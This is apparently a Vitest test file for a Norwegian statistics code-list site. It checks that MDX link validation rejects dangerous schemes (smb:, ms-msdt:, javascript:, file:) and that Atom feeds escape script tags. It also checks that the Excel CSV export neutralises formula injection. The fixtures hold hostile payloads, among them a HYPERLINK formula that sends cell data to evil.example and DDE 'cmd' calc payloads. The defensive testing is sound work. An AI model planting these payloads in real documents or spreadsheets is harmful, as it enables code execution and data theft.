import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { parse as parseCsv } from "csv-parse/sync";
import { XMLParser, XMLValidator } from "fast-xml-parser";
import { validateContent } from "../src/lib/validate/index.ts";
import { BUNDLED_CONTENT_ROOT } from "../src/lib/load/content-root.ts";
import { formatFinding } from "../src/lib/guard/print-finding.ts";
import { unsafeLinks } from "../src/lib/validate/links.ts";
import { isAllowedLink } from "../src/lib/site/link-schemes.ts";
import { bodyHtml } from "../src/lib/site/markdown.ts";
import { siteFeed, workingGroupFeed } from "../src/lib/export/feeds.ts";
import { codesToCsv, codesToExcelCsv } from "../src/lib/export/csv.ts";
import type { Code } from "../src/lib/schema/index.ts";
import { fixtureWith } from "./helpers.ts";

const PROPOSAL = "changes/p1.mdx";

/** Appends paragraphs to the fixture proposal's body; returns the content root and the file's text. */
function withBody(paragraphs: string[]): { dir: string; text: string } {
  const dir = fixtureWith();
  const file = join(dir, PROPOSAL);
  const text = readFileSync(file, "utf8") + "\n" + paragraphs.join("\n\n") + "\n";
  writeFileSync(file, text);
  return { dir, text };
}

/** 1-based line and column of the first occurrence of `needle` in `text`. */
function positionOf(text: string, needle: string): string {
  const offset = text.indexOf(needle);
  expect(offset, needle).toBeGreaterThanOrEqual(0);
  const before = text.slice(0, offset);
  return `${before.split("\n").length}:${offset - before.lastIndexOf("\n")}`;
}

/**
 * Each forbidden way of writing a link: the paragraph, and where the finding must point (the
 * link's first character; a reference definition's `[`).
 */
const FORBIDDEN: { name: string; paragraph: string; at: string; otherRule?: RegExp }[] = [
  { name: "smb: inline", paragraph: "Se [delt mappe](smb://server/share).", at: "[delt mappe]" },
  { name: "ms-msdt:", paragraph: "Se [feilsøking](ms-msdt:/id%20PCWDiagnostic).", at: "[feilsøking]" },
  { name: "search-ms:", paragraph: "Se [søk](search-ms:query=faktura&crumb=location:%5C%5Cserver).", at: "[søk]" },
  { name: "ftp:", paragraph: "Se [fil](ftp://ftp.example.no/fil.txt).", at: "[fil]" },
  { name: "tel:", paragraph: "Ring [oss](tel:+4722000000).", at: "[oss]" },
  { name: "javascript:", paragraph: "Se [her](javascript:alert(1)).", at: "[her]" },
  { name: "data:", paragraph: "Se [bilde](data:text/html,x).", at: "[bilde]" },
  { name: "vbscript:", paragraph: "Se [vb](vbscript:msgbox).", at: "[vb]" },
  { name: "file:", paragraph: "Se [lokal](file:///C:/Windows/win.ini).", at: "[lokal]" },
  { name: "a destination in angle brackets", paragraph: "Se [vinkel](<smb://server/share>).", at: "[vinkel]" },
  { name: "a link with a title", paragraph: 'Se [tittel](smb://server/share "Delt mappe").', at: "[tittel]" },
  { name: "a reference definition that is used", paragraph: "Se [referanse][ref].\n\n[ref]: smb://server/ref", at: "[ref]: smb" },
  { name: "a reference definition that is not used", paragraph: '[ubrukt]: ms-msdt:/id "tittel"', at: "[ubrukt]" },
  { name: "a reference definition over two lines", paragraph: "[tolinjer]:\n    search-ms:query=x", at: "[tolinjer]" },
  // MDX reads <…> as JSX: the file fails to compile, and is not checked further.
  { name: "an autolink", paragraph: "Se <smb://server/auto>.", at: "<smb://server/auto>", otherRule: /malformed MDX/ },
  { name: "an image", paragraph: "![logo](smb://server/logo.png)", at: "![logo]" },
  { name: "an image inside a link", paragraph: "[![ikon](ftp://ftp.example.no/i.png)](https://example.no/)", at: "![ikon]" },
  { name: "a decimal character reference", paragraph: "Se [desimal](&#115;mb://server/share).", at: "[desimal]" },
  { name: "a hexadecimal character reference", paragraph: "Se [heks](&#x73;MB://server/share).", at: "[heks]" },
  { name: "a named character reference", paragraph: "Se [kolon](javascript&colon;alert(1)).", at: "[kolon]" },
  { name: "a doubly encoded reference", paragraph: "Se [dobbel](&amp;#115;mb://server/share).", at: "[dobbel]" },
  { name: "mixed case", paragraph: "Se [stor](SmB://server/share) og [java](JaVaScRiPt:alert(1)).", at: "[stor]" },
  { name: "mixed case (second link on the line)", paragraph: "Mer: [TEL](TEL:+4722000000).", at: "[TEL]" },
  { name: "a leading space in angle brackets", paragraph: "Se [mellomrom](< smb://server/share>).", at: "[mellomrom]" },
  { name: "a leading tab in angle brackets", paragraph: "Se [tab](<\tsmb://server/share>).", at: "[tab]" },
  // Control characters are refused in any text, and the file is not checked further.
  { name: "a leading control character in angle brackets", paragraph: "Se [kontroll](<\u0001smb://server/share>).", at: "[kontroll]", otherRule: /control character U\+0001/ },
  { name: "a protocol-relative URL (another host)", paragraph: "Se [vert](//evil.example/x).", at: "[vert]" },
  { name: "in a list item", paragraph: "- punkt\n- [liste](smb://server/list)", at: "[liste]" },
  { name: "in a block quote", paragraph: "> sitat [sitert](smb://server/quote)", at: "[sitert]" },
  { name: "in a table cell", paragraph: "| a | b |\n| --- | --- |\n| x | [celle](smb://server/cell) |", at: "[celle]" },
];

const ALLOWED = [
  "[https](https://www.ssb.no/kostra)",
  "[http](http://example.no/side)",
  "[e-post](mailto:kostra@example.no)",
  "[intern](/kodelister/farger/)",
  "[anker](#avsnitt)",
  "[relativ](../kodelister/farger/)",
  "[relativ2](kodelister/farger/)",
  "[spørring](?aar=2022)",
  '[tittel](https://www.ssb.no "SSB")',
  "[stor HTTPS](HTTPS://www.ssb.no/)",
  "[ref-ok][ok]\n\n[ok]: https://www.ssb.no/",
  "`[i kode](smb://server/share)` og bar tekst smb://server/share eller ftp://ftp.example.no/",
  "    [kodeblokk](smb://server/share)",
];

describe("links in MDX bodies", () => {
  it("every forbidden scheme and way of writing a link fails validation at the link's file:line:column, saying what is allowed", async () => {
    const cases = FORBIDDEN.filter((c) => !c.otherRule);
    const { dir, text } = withBody(cases.map((c) => c.paragraph));
    const findings = (await validateContent(dir)).findings.filter((f) => f.file === PROPOSAL && f.message.startsWith("unsafe link target"));
    const at = findings.map((f) => `${f.line}:${f.column}`);
    for (const c of cases) expect(at, c.name).toContain(positionOf(text, c.at));
    // One finding per forbidden link: the two of "mixed case" are two; the reference used is reported at its definition only.
    expect(findings).toHaveLength(cases.length + 1);
    for (const f of findings) {
      expect(f.severity).toBe("error");
      expect(f.expected).toMatch(/https:, http: or mailto: URL, or an internal path/);
      expect(formatFinding(f)).toMatch(/^changes\/p1\.mdx:\d+:\d+: error: unsafe link target "/);
    }
    const messages = findings.map(formatFinding).join("\n");
    for (const scheme of ["smb", "ms-msdt", "search-ms", "ftp", "tel", "javascript", "data", "vbscript", "file"]) expect(messages).toContain(`the scheme "${scheme}:" is not allowed`);
    expect(messages).toContain("leads to another host");
  });

  it("an autolink and a control character fail validation by other rules on their line; the link rule refuses them too", async () => {
    for (const c of FORBIDDEN.filter((c) => c.otherRule)) {
      const { dir, text } = withBody([c.paragraph]);
      const errors = (await validateContent(dir)).findings.filter((f) => f.file === PROPOSAL && f.severity === "error");
      expect(errors.map((f) => `${f.line}: ${f.message}`), c.name).toContainEqual(expect.stringMatching(new RegExp(`^${positionOf(text, c.at).split(":")[0]}: .*${c.otherRule!.source}`)));
      expect(unsafeLinks(c.paragraph).map((l) => l.offset), c.name).toEqual([c.paragraph.indexOf(c.at)]);
    }
  });

  it("http(s), mailto and internal links pass, and so does text that only looks like a link (code, bare URLs the renderer does not link)", async () => {
    const { dir } = withBody(ALLOWED);
    const findings = (await validateContent(dir)).findings.filter((f) => f.file === PROPOSAL && f.severity === "error");
    expect(findings.map(formatFinding)).toEqual([]);
  });

  it("the link rule alone accepts an http(s) or mailto autolink and a destination in angle brackets", () => {
    // Validation refuses these for another reason: its HTML rule reads any <…> in a body as markup.
    expect(unsafeLinks("<https://www.ssb.no/> <kostra@example.no> <mailto:kostra@example.no> [v](<https://www.ssb.no/a b>)")).toEqual([]);
  });

  it("the shared rule: allowed schemes and internal paths only, whatever the case, encoding or leading characters", () => {
    for (const ok of ["https://x.no", "HTTP://x.no", "mailto:a@b.no", "/a", "#b", "../c", "d/e", "?f=1", "", "g/h:i"]) expect(isAllowedLink(ok), ok).toBe(true);
    for (const bad of ["smb://h", "ms-msdt:/id", "search-ms:q", "ftp://h", "tel:1", "javascript:x", "data:x", "file:///x", "c:\\x", "//h/x", "\\\\h\\x", "/\\h", "&#115;mb://h", "&#x73mb://h", "&amp;#115;mb://h", "javascript&colon;x", " smb://h", "\u0000smb://h", "\u200Bsmb://h", "s\tm\nb://h", "SMB://h"]) {
      expect(isAllowedLink(bad), JSON.stringify(bad)).toBe(false);
    }
  });

  it("the renderer makes no live link or image for any of them, so a body that got past validation still has none", () => {
    for (const c of FORBIDDEN) {
      const html = bodyHtml(c.paragraph);
      // The image inside a link: the link to https: stays, the image does not.
      const anchors = [...html.matchAll(/<a href="([^"]*)"/g)].map((m) => m[1]);
      expect(anchors.every((href) => href.startsWith("https://example.no/")), `${c.name}: ${html}`).toBe(true);
      expect(html, c.name).not.toContain("<img");
    }
    for (const bare of ["smb://server/share", "ftp://ftp.example.no/f", "tel:+4722000000", "ms-msdt:/id", "www.example.no"]) expect(bodyHtml(`Bare ${bare} i tekst.`)).not.toContain("<a");
    const allowed = bodyHtml(ALLOWED.slice(0, 10).join("\n\n"));
    for (const href of ["https://www.ssb.no/kostra", "http://example.no/side", "mailto:kostra@example.no", "/kodelister/farger/", "#avsnitt", "../kodelister/farger/", "?aar=2022"]) expect(allowed).toContain(`<a href="${href}"`);
  });
});

describe("Atom feeds hold text, not HTML", () => {
  const evil = `<script>alert(1)</script> & "sitat" ]]> og ]]> igjen &amp; <b>fet</b>`;

  it("a proposal title with <script> and & is the literal title of an entry in well-formed XML, type text", async () => {
    const dir = fixtureWith();
    const file = join(dir, PROPOSAL);
    writeFileSync(file, readFileSync(file, "utf8").replace('title: "Del blå"', `title: ${JSON.stringify(evil)}`));
    const g = join(dir, "content/working-groups/wg.yaml");
    writeFileSync(g, readFileSync(g, "utf8").replace('name: { nb: "Testgruppe" }', `name: { nb: ${JSON.stringify(evil)} }`));
    const { registry, findings } = await validateContent(dir);
    expect(findings.filter((f) => f.severity === "error").map(formatFinding)).toEqual([]);
    for (const xml of [siteFeed(registry, "https://example.org"), workingGroupFeed(registry, "wg", "https://example.org")]) {
      expect(XMLValidator.validate(xml)).toBe(true);
      expect(xml).not.toContain("<script>");
      expect(xml).not.toContain('type="html"');
      expect(xml).not.toContain("CDATA");
      const feed = new XMLParser({ ignoreAttributes: false, parseTagValue: false, trimValues: false }).parse(xml).feed;
      const entries = [feed.entry].flat();
      const titles = entries.map((e: { title: { "#text": string; "@_type": string } }) => e.title);
      for (const t of titles) expect(t["@_type"]).toBe("text");
      expect(titles.map((t: { "#text": string }) => t["#text"])).toContainEqual(expect.stringContaining(`Endringsforslag: ${evil} (`));
      for (const e of entries) if (e.summary) expect(e.summary["@_type"]).toBe("text");
      expect(feed.title["@_type"]).toBe("text");
    }
    const groupFeed = new XMLParser({ ignoreAttributes: false, parseTagValue: false, trimValues: false }).parse(workingGroupFeed(registry, "wg", "https://example.org")).feed;
    expect(groupFeed.title["#text"]).toBe(`${evil}: forslag, møter og endringer`);
  });
});

describe("the Excel CSV neutralises formulas; the programs' CSV stays data", () => {
  const code = (c: string, nb: string, more: Partial<Code> = {}): Code => ({ code: c, name: { nb }, ...more }) as Code;
  const dangerous = ['=HYPERLINK("http://evil.example/?x="&A1;"Klikk")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-", "=", "-5+1", "-1e3"];
  const ordinary = ["Rød", "Blå - mørk", "Kari & Ola; \"sitat\"", " ledende mellomrom", "'=allerede sitert", "1 + 1 = 2"];
  const codes = [
    ...dangerous.map((label, i) => code(`D${i}`, label, { notes: label, group: label })),
    ...ordinary.map((label, i) => code(`O${i}`, label)),
    code("-5", "Negativ kode", { parent: "-5" }),
    code("+47", "Pluss"),
    code("-1,5", "Desimal"),
    code("=1", "Formelkode"),
  ];
  const read = (csv: string, delimiter: string) => parseCsv(csv, { delimiter, bom: true, relax_column_count: false }) as string[][];

  it("cells starting with =, +, -, @, tab or CR read back as '=… and are quoted; ordinary labels and plain-number codes are unchanged", () => {
    const excel = codesToExcelCsv(codes);
    expect(excel.startsWith("\uFEFF")).toBe(true);
    const rows = read(excel, ";");
    const byCode = new Map(rows.slice(1).map((r) => [r[0], r]));
    dangerous.forEach((label, i) => {
      const r = byCode.get(`D${i}`)!;
      expect(r[2], JSON.stringify(label)).toBe(`'${label}`);
      expect(r[6]).toBe(`'${label}`);
      expect(r[10]).toBe(`'${label}`);
      // Quoted, so that a spreadsheet never reads the cell's start as anything but text.
      expect(excel).toContain(`"'${label.replace(/"/g, '""')}"`);
    });
    ordinary.forEach((label, i) => expect(byCode.get(`O${i}`)![2]).toBe(label));
    // A plain number is a number to a spreadsheet, never a formula: the code -5 still reads -5.
    expect(byCode.get("-5")!.slice(0, 3)).toEqual(["-5", "-5", "Negativ kode"]);
    expect(byCode.get("+47")).toBeDefined();
    expect(byCode.get("-1,5")).toBeDefined();
    expect(byCode.get("'=1")![2]).toBe("Formelkode");
    expect(rows[0]).toEqual(["code", "parentCode", "name", "nameNn", "nameEn", "shortName", "notes", "status", "withdrawnFrom", "selectable", "group"]);
  });

  it("the programs' CSV keeps every value byte for byte", () => {
    const rows = read(codesToCsv(codes), ",");
    expect(rows.slice(1).map((r) => [r[0], r[2]])).toEqual(codes.map((c) => [c.code, c.name.nb]));
    expect(codesToCsv(codes)).not.toContain("'=HYPERLINK");
  });

  it("the published reporting year 2022 still validates: no bundled Excel CSV changed", async () => {
    const { findings } = await validateContent(BUNDLED_CONTENT_ROOT);
    expect(findings.filter((f) => f.severity === "error").map(formatFinding)).toEqual([]);
  }, 120_000);
});
